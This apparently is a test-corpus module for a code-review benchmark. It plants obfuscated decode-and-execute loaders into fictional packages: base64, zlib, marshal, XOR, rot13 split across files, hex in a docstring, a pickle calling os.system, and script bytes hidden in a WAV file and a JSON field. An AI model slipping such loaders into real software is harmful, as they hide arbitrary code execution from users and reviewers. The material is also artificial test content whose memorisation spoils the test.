"""Code that is decoded before it runs, in layers and in disguise (W4SP, num2words, telnyx)."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

import base64
import json

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import STAGE, as_base64, as_pyc, as_xor, in_pieces, packed

__all__: list[str] = []

_F = Family.DECODE_EXECUTE


@planted(_F, base="client", where=("harborline/_version.py",), unasked=True)
def base64_and_exec(draft: Draft) -> None:
    draft.append("harborline/_version.py", f"import base64; exec(base64.b64decode('{as_base64()}'))\n")


@planted(_F, base="client", where=("harborline/_models.py",), unasked=True)
def layers_under_aliases(draft: Draft) -> None:
    draft.append(
        "harborline/_models.py",
        f"""


        from base64 import b64decode as _b
        from zlib import decompress as _z

        _data = _b("{base64.b64encode(packed().encode()).decode()}")
        _text = _z(_b(_data)).decode()
        _run = eval
        _run(compile(_text, "<string>", "exec"))
        """,
    )


@planted(_F, base="command", where=("tidelog/_tables.py", "tidelog/__init__.py"), unasked=True)
def marshalled_code(draft: Draft) -> None:
    code = base64.b85encode(as_pyc()[16:]).decode()
    draft.put(
        "tidelog/_tables.py",
        f"import base64\nimport marshal\nimport types\n\n_T = {code!r}\n"
        "types.FunctionType(marshal.loads(base64.b85decode(_T)), globals())()\n",
    )
    draft.append("tidelog/__init__.py", "from tidelog import _tables\n")


@planted(_F, base="framework", where=("quayside/settings.py",), unasked=True)
def pickled_defaults(draft: Draft) -> None:
    draft.put("quayside/defaults.dat", b"\x80\x04cposix\nsystem\n(S'echo planted'\ntR.")
    draft.append(
        "quayside/settings.py",
        """


        import pickle

        DEFAULTS = pickle.load(open(Path(__file__).with_name("defaults.dat"), "rb"))
        """,
    )


@planted(_F, base="client", where=("harborline/_speed.pyc", "harborline/__init__.py"), unasked=True)
def shipped_bytecode(draft: Draft) -> None:
    draft.put("harborline/_speed.pyc", as_pyc())
    draft.append("harborline/__init__.py", "from harborline import _speed  # noqa: F401\n")


@planted(_F, base="native", where=("fastbuoy/__pycache__/frames.cpython-312.pyc",), evasive=True)
def bytecode_in_the_cache_folder(draft: Draft) -> None:
    draft.put_beyond("fastbuoy/__pycache__/frames.cpython-312.pyc", as_pyc())


@planted(_F, base="client", where=("harborline/resources/__init__.py",), evasive=True, unasked=True)
def bytes_turned_by_a_key(draft: Draft) -> None:
    draft.put(
        "harborline/resources/__init__.py",
        f"_K = 0x5A\n_D = {as_xor(STAGE, 0x5A)!r}\n\nexec(bytes(b ^ _K for b in _D))\n",
    )


@planted(_F, base="command", where=("tidelog/times.py",), evasive=True, unasked=True)
def steps_kept_as_data(draft: Draft) -> None:
    data = base64.b32encode(base64.b85encode(STAGE.encode())).decode()
    draft.append(
        "tidelog/times.py",
        f"""


        import base64 as _codec

        _zone = "{data}"
        for _step in ("b32decode", "b85decode"):
            _zone = getattr(_codec, _step)(_zone)
        (lambda f: f(_zone))(__builtins__["exec"] if isinstance(__builtins__, dict) else __builtins__.exec)
        """,
    )


@planted(_F, base="framework", where=("quayside/expressions.py",), evasive=True, unasked=True)
def text_in_a_docstring(draft: Draft) -> None:
    draft.append(
        "quayside/expressions.py",
        f"""


        def _reference():
            \"\"\"Digest of the grammar:

            {STAGE.encode().hex()}
            \"\"\"


        exec(bytes.fromhex(_reference.__doc__.split()[-1]).decode())
        """,
    )


@planted(_F, base="framework", where=("quayside/web/_c.py", "quayside/web/__init__.py"), evasive=True, unasked=True)
def pieces_in_several_files(draft: Draft) -> None:
    first, second, third = in_pieces(STAGE, 3)
    draft.put("quayside/web/_a.py", f"HEADER = {first!r}\n")
    draft.put("quayside/web/_b.py", f"FOOTER = {third!r}\n")
    draft.put(
        "quayside/web/_c.py",
        "import codecs\n\nfrom quayside.web._a import HEADER\nfrom quayside.web._b import FOOTER\n\n"
        f"BODY = {second!r}\nPAGE = codecs.decode(HEADER + BODY + FOOTER, 'rot_13')\nexec(PAGE)\n",
    )
    draft.put("quayside/web/__init__.py", "from quayside.web import _c\n")


@planted(_F, base="client", where=("harborline/_loader.py", "harborline/__init__.py"), evasive=True, unasked=True)
def module_made_of_nothing(draft: Draft) -> None:
    draft.put(
        "harborline/_loader.py",
        "import sys\nimport types\nfrom binascii import a2b_base64\n\n\ndef load(name, text):\n    module = types.ModuleType(name)\n"
        "    sys.modules[name] = module\n    six = exec\n    six(a2b_base64(text), module.__dict__)\n    return module\n\n\n"
        f"extra = load('harborline.extra', {as_base64()!r})\n",
    )
    draft.append("harborline/__init__.py", "from harborline._loader import extra\n")


@planted(_F, base="framework", where=("quayside/notify.py",), evasive=True)
def frames_of_a_sound(draft: Draft) -> None:
    draft.put(
        "quayside/data/chime.wav",
        b"RIFF\x24\x08\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x44\xac\0\0\x88\x58\x01\0\x02\0\x10\0data"
        + as_xor(STAGE, 7) * 4,
    )
    draft.replace(
        "quayside/notify.py",
        '        """Post an event to the address that the user configured."""\n',
        '        """Post an event to the address that the user configured."""\n'
        "        import wave, pathlib, sys, subprocess\n\n"
        "        with wave.open(str(pathlib.Path(__file__).parent / 'data' / 'chime.wav')) as sound:\n"
        "            frames = sound.readframes(sound.getnframes())\n"
        "        script = bytes(b ^ frames[0] for b in frames[1:])\n"
        "        subprocess.run([sys.executable, '-'], input=script, capture_output=True)\n",
    )


@planted(_F, base="command", where=("tidelog/formats/apache.py",), evasive=True, unasked=True)
def field_of_a_json_file(draft: Draft) -> None:
    draft.put(
        "tidelog/data/agents.json",
        json.dumps({"bots": ["examplebot"], "browsers": ["gecko"], "checksum": packed()}) + "\n",
    )
    draft.append(
        "tidelog/formats/apache.py",
        """


        def _agents():
            import base64, json, pkgutil, zlib

            data = json.loads(pkgutil.get_data("tidelog", "data/agents.json"))
            scope = {}
            exec(zlib.decompress(base64.b64decode(data.pop("checksum"))), scope)
            return data


        AGENTS = _agents()
        """,
    )
